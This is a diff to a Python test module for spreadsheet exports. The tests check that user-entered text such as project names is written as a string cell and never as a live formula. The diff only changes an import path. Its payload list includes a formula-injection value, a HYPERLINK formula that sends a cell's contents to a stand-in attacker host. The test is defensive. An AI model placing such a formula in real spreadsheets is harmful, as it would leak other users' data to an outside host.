@@ -3,7 +3,7 @@
 Text a unit controls (a project name, a REITs sponsor, a return reason …) must reach every
 workbook as a string cell: ``=HYPERLINK(…&B2 …)`` typed as a project name must not become a live
 formula in the city's bulletin, pulling in another unit's row. Every export is made by
-:func:`tuijin.spreadsheets.new_workbook`; these tests build the exports through their real doors
+:func:`tuijin.toolkit.spreadsheets.new_workbook`; these tests build the exports through their real doors
 from data holding each payload and read the files back.
 """
 
@@ -19,7 +19,7 @@ import pytest
 from rest_framework.test import APIClient
 
 from tuijin.audit.context import audit_context
-from tuijin.spreadsheets import csv_safe, new_workbook
+from tuijin.toolkit.spreadsheets import csv_safe, new_workbook
 
 PAYLOADS = (
     '=HYPERLINK("http://evil.example/?x="&B2,"点击查看")',
